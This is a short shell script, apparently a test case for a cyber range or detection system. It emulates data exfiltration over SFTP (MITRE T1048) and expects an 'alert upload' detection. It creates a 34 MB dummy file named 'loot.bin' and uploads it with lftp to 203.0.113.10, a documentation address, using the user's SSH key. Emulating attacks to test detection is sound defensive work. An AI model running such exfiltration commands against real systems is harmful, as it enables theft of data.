# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with lftp by sftp
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
timeout 60 lftp -e "set sftp:connect-program \"ssh -a -x -F $HOME/.ssh/config -i $HOME/.ssh/id_ed25519\"; open -u root,x sftp://203.0.113.10; put -O $RANGE/hosts/inet/home $HOME/loot.bin; exit"
ok=$?
rm "$HOME/loot.bin"
exit $ok
